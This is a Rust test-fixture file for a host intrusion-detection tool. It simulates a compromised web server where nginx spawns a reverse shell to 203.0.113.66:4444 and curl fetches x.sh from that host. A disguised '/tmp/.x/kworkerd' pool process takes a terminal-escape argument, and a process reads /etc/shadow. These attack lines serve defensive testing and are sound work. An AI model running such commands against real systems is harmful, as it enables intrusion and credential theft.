//! A host under attack, for tests: a web server's shell talks home and leaves a cron job.

use std::time::Duration;

use chrono::{TimeDelta, TimeZone, Utc};

use bartizan_model::*;
use bartizan_protocol::{Mirror, ProcessRow, SocketRow};

/// The moment of all fixtures.
pub(crate) fn now() -> Timestamp {
    Utc.with_ymd_and_hms(2026, 3, 14, 14, 3, 22).unwrap()
}

fn before(seconds: i64) -> Timestamp {
    now() - TimeDelta::seconds(seconds)
}

pub(crate) fn key(pid: u32) -> ProcessKey {
    ProcessKey { boot: BootId(0x1f2e_3d4c), pid, start: u64::from(pid) * 10 }
}

pub(crate) fn process(pid: u32, parent: u32, user: &str, argv: &[&str], age: i64) -> ProcessRow {
    let exe = if argv[0].starts_with('[') { HostText::default() } else { HostText::from(argv[0]) };
    ProcessRow {
        key: key(pid),
        parent: (parent > 0).then(|| key(parent)),
        exe,
        argv: argv.iter().map(|word| HostText::from(*word)).collect(),
        uid: if user == "root" { 0 } else { 33 },
        user: Some(HostText::from(user)),
        unit: (pid > 400).then(|| "nginx.service".to_owned()),
        container: None,
        role: None,
        since: before(age),
        incident: None,
        held_by: None,
    }
}

pub(crate) fn socket(id: u64, listening: bool, src: &str, sport: u16, dst: Option<(&str, u16)>, owner: (u32, &str), age: i64) -> SocketRow {
    SocketRow {
        id,
        listening,
        net: Flow {
            proto: Protocol::Tcp,
            src: src.parse().unwrap(),
            sport,
            dst: dst.map(|(addr, _)| addr.parse().unwrap()),
            dport: dst.map(|(_, port)| port),
            name: None,
        },
        process: Some(key(owner.0)),
        exe: HostText::from(owner.1),
        since: before(age + 3),
        last: before(age),
        count: 1 + id % 4,
        open: id != 12,
        incident: None,
    }
}

#[allow(clippy::too_many_arguments)] // one row of a table
fn signal(
    event: u64,
    age: i64,
    detector: &str,
    stage: Stage,
    severity: Severity,
    family: Family,
    technique: &'static str,
    sentence: &str,
) -> Signal {
    Signal {
        id: SignalId { event: EventId(event), ordinal: 0 },
        at: before(age),
        detector: detector.to_owned(),
        technique: vec![Technique::new(technique)],
        severity,
        confidence: Confidence::new(0.9),
        tier: Tier::Stable,
        family,
        stage,
        events: vec![EventId(event)],
        entities: vec![Entity::Lineage(key(812))],
        subject: Some(key(2214)),
        act: None,
        hostile: None,
        sentence: sentence.to_owned(),
        complete: true,
        excepted: None,
    }
}

pub(crate) fn action(id: u64, kind: ActionKind, target: Target, state: ActionState, age: i64) -> Action {
    Action {
        id: ActionId(id),
        kind,
        target,
        incident: Some(IncidentId(7)),
        warrant: WarrantId(id + 3),
        state,
        desired: bartizan_model::Desired::Live,
        planned_at: before(age + 1),
        applied_at: Some(before(age)),
        verified_at: Some(before(12)),
        expires_at: before(age) + TimeDelta::seconds(600),
        ended_at: None,
        by: bartizan_model::Approver::Person("root via uid 0".into()),
        reason: "a web server started a shell that talks to 203.0.113.66".to_owned(),
        preview: vec!["add element inet bartizan block_out4 { 203.0.113.66 timeout 600s }".to_owned()],
        undo: vec!["delete element inet bartizan block_out4 { 203.0.113.66 }".to_owned()],
        note: "element present, 552 s left".to_owned(),
        evidence: None,
        confirmation: None,
        vitals: None,
    }
}

fn approval(id: u64, plan: ActionPlan, age: i64, state: ApprovalState) -> Approval {
    let radius = "3 processes: sh (2214), curl (2231), sleep (2240); no protected program among them".to_owned();
    Approval {
        id: ApprovalId(id),
        incident: IncidentId(7),
        action: plan,
        reason: "nginx (pid 812) started a shell whose input is a network socket".to_owned(),
        held_because: "mode PARANOID: a person approves everything".to_owned(),
        confidence: Confidence::new(0.88),
        preview: Preview {
            steps: vec![
                "write 1 to /sys/fs/cgroup/bartizan/freeze-Q5/cgroup.freeze".to_owned(),
                "move 3 processes there: 2214, 2231, 2240".to_owned(),
            ],
            blast_radius: radius.clone(),
            undo: vec!["write 0 to cgroup.freeze".to_owned(), "move the processes back to /system.slice/nginx.service".to_owned()],
            stays: "your access from 198.51.100.7; every other program".to_owned(),
            confirm_within: None,
        },
        blast_radius: radius,
        asked_at: before(age),
        expires_at: before(age) + TimeDelta::seconds(1_800),
        state,
        answered_by: (state != ApprovalState::Pending).then(|| "root via uid 0".to_owned()),
    }
}

fn tree(pid: u32) -> Target {
    Target::ProcessTree { root: key(pid), exe: HostText::from("/usr/bin/dash") }
}

fn remote(addr: &str) -> Target {
    Target::Address { addr: addr.parse().unwrap(), direction: Direction::Out }
}

fn log(name: &str, state: LogState) -> LogSource {
    let read = if state == LogState::Following { 20_417 } else { 0 };
    LogSource {
        name: name.into(),
        format: "auth".to_owned(),
        state,
        lines: read,
        parsed: read,
        unparsed: 0,
        cut: 0,
        records: read,
        skipped: 0,
        lag: Some(0),
        last_line: (read > 0).then(|| before(2)),
        samples: vec![],
        set_aside: vec![],
        set_aside_count: 0,
        trouble: None,
        troubles: 0,
    }
}

pub(crate) fn health() -> Health {
    Health {
        version: "0.1.0".to_owned(),
        pid: 611,
        host: "web-1".to_owned(),
        kernel: "6.12.48".to_owned(),
        watching_since: before(1_200),
        at: now(),
        mode: Mode::Paranoid,
        posture: Posture::Contain,
        rung: Rung::Ebpf,
        bpf_object: "built".to_owned(),
        blind_spots: vec![BlindSpot {
            what: "reads of secrets inside containers".to_owned(),
            why: "fanotify marks one mount namespace".to_owned(),
            mend: "run one agent for each container host, or mount the container roots".to_owned(),
        }],
        hops: [("kernel-ring", 1_284_004, 0), ("lane-security", 4_120, 0), ("lane-normal", 1_279_884, 17), ("store", 1_283_987, 0)]
            .map(|(hop, received, dropped)| HopDrops { hop: hop.to_owned(), received, dropped })
            .to_vec(),
        logs: vec![log("/var/log/auth.log", LogState::Following), log("/srv/shop/access.log", LogState::Missing)],
        events_per_second: 184.4,
        events_total: 1_284_004,
        cpu_percent: 1.3,
        rss_bytes: 41_200_000,
        store_bytes: 88_000_000,
        learning: None,
        files: bartizan_model::FilesWatched::default(),
        counts: bartizan_model::Counts::default(),
        gaps: vec![
            Gap { from: Timestamp::UNIX_EPOCH, to: before(90_000), count: 0, why: "no agent had run before".to_owned() },
            Gap { from: before(3_000), to: before(2_840), count: 0, why: "no agent ran".to_owned() },
            Gap { from: before(1_203), to: before(1_200), count: 17, why: "lost at lane-normal".to_owned() },
        ],
        budget: Budget { max_cpu_percent: 20.0, max_rss_bytes: 256 << 20, level: 0, given_up: Vec::new() },
        urgent_latency: bartizan_model::Latency::default(),
        messages: Messages::default(),
        degraded: vec!["journal: no permission to read; add the agent to the group systemd-journal".to_owned()],
    }
}

fn incidents() -> Vec<Incident> {
    let base = Incident {
        id: IncidentId(7), opened: before(98), updated: before(31), state: IncidentState::Open, confidence: Confidence::new(0.883), severity: Severity::Critical,
        posture: Posture::AggressiveContain, stages: vec![Stage::InitialAccess, Stage::Execution, Stage::Persistence, Stage::CommandAndControl], entities: vec![Entity::Lineage(key(812))],
        signals: [41, 44, 47, 52].map(|event| SignalId { event: EventId(event), ordinal: 0 }).to_vec(), signal_count: 4, families: vec![Family::Lineage, Family::Outbound, Family::Files],
        subject: Some(key(2214)), addresses: vec!["203.0.113.66".parse().unwrap()],
        sentence: "nginx (pid 812) started a shell that talks to 203.0.113.66 and wrote a cron job: a break-in through the web server that wants to stay.".to_owned(), complete: true, excepted: 0,
    };
    let minor = Incident {
        id: IncidentId(6),
        opened: before(5_400),
        updated: before(5_100),
        state: IncidentState::Acknowledged,
        confidence: Confidence::new(0.4),
        severity: Severity::Medium,
        posture: Posture::Observe,
        stages: vec![Stage::Privilege],
        signals: vec![SignalId { event: EventId(12), ordinal: 0 }],
        signal_count: 1,
        families: vec![Family::Auth],
        sentence: "python3 (pid 1901) opened /etc/shadow, which it never does here.".to_owned(),
        ..base.clone()
    };
    let old = Incident {
        id: IncidentId(3),
        opened: before(40_000),
        updated: before(39_000),
        state: IncidentState::Closed,
        severity: Severity::Low,
        confidence: Confidence::new(0.21),
        sentence: "an unexpected listener on port 9001 by /opt/tool/agentd.".to_owned(),
        signals: Vec::new(),
        ..minor.clone()
    };
    vec![base, minor, old]
}

/// The whole host.
pub(crate) fn mirror() -> Mirror {
    let mut mirror = Mirror::default();
    mirror.health = Some(health());
    let mut processes = vec![
        process(1, 0, "root", &["/usr/lib/systemd/systemd", "--switched-root"], 80_000),
        process(2, 0, "root", &["[kthreadd]"], 80_000),
        process(3, 2, "root", &["[rcu_gp]"], 80_000),
        process(4, 2, "root", &["[kworker/0:0]"], 80_000),
        process(380, 1, "root", &["/usr/sbin/sshd", "-D"], 79_000),
        process(611, 1, "root", &["/usr/local/bin/bartizan", "--headless"], 8_060),
        process(1890, 380, "deploy", &["/usr/bin/bash"], 4_000),
        process(812, 1, "root", &["/usr/sbin/nginx", "-g", "daemon off;"], 7_000),
        process(813, 812, "www-data", &["/usr/sbin/nginx"], 7_000),
        process(2214, 813, "www-data", &["/usr/bin/dash", "-i"], 98),
        process(2231, 2214, "www-data", &["/usr/bin/curl", "-s", "http://203.0.113.66/x.sh"], 64),
        process(2240, 2214, "www-data", &["/tmp/.x/kworkerd", "\u{1b}]0;pwned\u{7}", "--pool", "203.0.113.66:443"], 31),
    ];
    for row in processes.iter_mut().filter(|row| row.key.pid > 2_000) {
        row.incident = Some(IncidentId(7));
    }
    mirror.processes = processes.into_iter().map(|row| (row.key, row)).collect();
    let mut sockets = vec![
        socket(1, true, "0.0.0.0", 22, None, (380, "/usr/sbin/sshd"), 79_000),
        socket(2, true, "::", 80, None, (812, "/usr/sbin/nginx"), 7_000),
        socket(3, true, "127.0.0.1", 5432, None, (700, "/usr/lib/postgresql/16/bin/postgres"), 7_000),
        socket(11, false, "10.0.0.5", 22, Some(("198.51.100.7", 50_122)), (380, "/usr/sbin/sshd"), 4),
        socket(12, false, "10.0.0.5", 41_002, Some(("151.101.2.132", 443)), (1890, "/usr/bin/apt"), 900),
        socket(13, false, "10.0.0.5", 41_234, Some(("203.0.113.66", 4444)), (2214, "/usr/bin/dash"), 2),
        socket(14, false, "2001:db8::5", 41_240, Some(("2606:4700:4700::1111", 443)), (2231, "/usr/bin/curl"), 60),
    ];
    for row in sockets.iter_mut().filter(|row| row.id == 13) {
        row.incident = Some(IncidentId(7));
    }
    mirror.sockets = sockets.into_iter().map(|row| (row.id, row)).collect();
    mirror.incidents = incidents().into_iter().map(|row| (row.id, row)).collect();
    mirror.signals = [
        signal(
            41,
            98,
            "web-server-spawns-shell",
            Stage::InitialAccess,
            Severity::High,
            Family::Lineage,
            "T1190",
            "nginx (pid 813) started /usr/bin/dash (pid 2214).",
        ),
        signal(
            44,
            97,
            "shell-on-a-socket",
            Stage::Execution,
            Severity::Critical,
            Family::Outbound,
            "T1059.004",
            "the shell /usr/bin/dash (pid 2214) reads its input from 203.0.113.66:4444.",
        ),
        signal(
            47,
            64,
            "public-address-by-web-child",
            Stage::CommandAndControl,
            Severity::High,
            Family::Outbound,
            "T1071",
            "curl (pid 2231) below nginx connected to 203.0.113.66:80.",
        ),
        signal(
            52,
            31,
            "persistence-by-network-lineage",
            Stage::Persistence,
            Severity::Critical,
            Family::Files,
            "T1053.003",
            "dash (pid 2214) below nginx created the cron job /etc/cron.d/x.",
        ),
    ]
    .into();
    let alert = |id: u64, incident: u64, severity, state, count, age: i64, sentence: &str| Alert {
        id: AlertId(id),
        incident: IncidentId(incident),
        at: before(age + 60),
        updated: before(age),
        severity,
        sentence: sentence.to_owned(),
        count,
        state,
        by: None,
    };
    mirror.alerts = [
        alert(
            9,
            7,
            Severity::Critical,
            AlertState::New,
            4,
            31,
            "nginx (pid 812) started a shell that talks to 203.0.113.66 and wrote a cron job.",
        ),
        alert(
            8,
            6,
            Severity::Medium,
            AlertState::Acknowledged,
            1,
            5_100,
            "python3 (pid 1901) opened /etc/shadow, which it never does here.",
        ),
        alert(4, 3, Severity::Low, AlertState::New, 2, 39_000, "an unexpected listener on port 9001 by /opt/tool/agentd."),
    ]
    .map(|row| (row.id, row))
    .into();
    let ten = Duration::from_secs(600);
    mirror.approvals = [
        approval(5, ActionPlan::new(ActionKind::FreezeTree, tree(2214), ten).unwrap(), 31, ApprovalState::Pending),
        approval(6, ActionPlan::new(ActionKind::BlockAddress, remote("203.0.113.66"), ten).unwrap(), 30, ApprovalState::Pending),
        approval(4, ActionPlan::new(ActionKind::BlockAddress, remote("198.51.100.99"), ten).unwrap(), 3_000, ApprovalState::Rejected),
    ]
    .map(|row| (row.id, row))
    .into();
    mirror.actions = [
        action(12, ActionKind::BlockAddress, remote("203.0.113.66"), ActionState::Live, 48),
        action(11, ActionKind::FreezeTree, tree(2214), ActionState::Drifted, 95),
        action(10, ActionKind::KillTree, tree(1702), ActionState::Live, 590),
        action(9, ActionKind::BlockAddress, remote("192.0.2.44"), ActionState::RolledBack, 4_000),
    ]
    .map(|row| (row.id, row))
    .into();
    mirror
}

/// The host in containment mode, which nobody confirmed yet.
pub(crate) fn unconfirmed() -> Action {
    Action {
        target: Target::Host,
        kind: ActionKind::ContainHost,
        incident: None,
        reason: "asked for in the console".to_owned(),
        preview: vec![
            "outbound: only to 198.51.100.7, 10.0.0.1, 10.0.0.2 and what is open already".to_owned(),
            "inbound: at most 20 new TCP connections a second; new SSH logins paused".to_owned(),
        ],
        undo: vec!["delete chain inet bartizan contain".to_owned()],
        note: "12 rules as they should be".to_owned(),
        confirmation: Some(Confirmation { until: now() + TimeDelta::seconds(100), confirmed_at: None, confirmed_by: None }),
        vitals: Some(ProbeCheck {
            at: Some(before(5)),
            well: 6,
            ill_before: vec!["unit backup.service: failed".to_owned()],
            harmed: Vec::new(),
            unexplained: Vec::new(),
        }),
        ..action(13, ActionKind::ContainHost, Target::Host, ActionState::Live, 20)
    }
}

/// Undone by its own health check, and one that somebody stands behind.
pub(crate) fn harmed_and_confirmed() -> [Action; 2] {
    let harmed = Action {
        state: ActionState::RolledBack,
        ended_at: Some(before(200)),
        note: "undone: the SSH server 127.0.0.1:22 did not answer any more".to_owned(),
        confirmation: Some(Confirmation { until: before(100), confirmed_at: None, confirmed_by: None }),
        vitals: Some(ProbeCheck {
            at: Some(before(202)),
            well: 5,
            ill_before: Vec::new(),
            harmed: vec!["the SSH server 127.0.0.1:22".to_owned()],
            unexplained: Vec::new(),
        }),
        ..action(14, ActionKind::DisableUser, Target::User { name: HostText::from("deploy"), uid: 1001 }, ActionState::RolledBack, 210)
    };
    let id = "3f1c".repeat(16);
    let container = Target::Container { id, name: HostText::from("shop"), isolation: Isolation::Network };
    let confirmed = Action {
        confirmation: Some(Confirmation {
            until: before(10),
            confirmed_at: Some(before(50)),
            confirmed_by: Some("ann via uid 1000".to_owned()),
        }),
        ..action(15, ActionKind::IsolateContainer, container, ActionState::Live, 130)
    };
    [harmed, confirmed]
}

pub(crate) fn presence() -> Presence {
    Presence { away_since: Some(before(3_720)), events: 61_204, incidents: 1, alerts: 2, actions: 0, lapsed: 1 }
}

pub(crate) fn audit() -> Vec<AuditEntry> {
    [
        ("agent", "agent.started", "web-1", "version 0.1.0, eBPF"),
        ("agent", "incident.opened", "I7", "confidence 0.70"),
        ("agent", "approval.asked", "Q5", "freeze /usr/bin/dash (pid 2214) and below"),
        ("ann via uid 1000", "request.refused", "approve", "needs the role operator"),
        ("root via uid 0", "warrant.issued", "W15", "block to 203.0.113.66 for 10m"),
        ("root via uid 0", "action.applied", "A12", "element present in inet bartizan block_out4"),
    ]
    .into_iter()
    .zip(1u64..)
    .map(|((actor, what, subject, detail), seq)| AuditEntry {
        seq,
        body: AuditBody {
            at: before(100 - i64::try_from(seq).unwrap() * 9),
            actor: actor.to_owned(),
            what: what.to_owned(),
            subject: subject.to_owned(),
            detail: detail.to_owned(),
        },
        hash: format!("{seq:064x}"),
    })
    .collect()
}
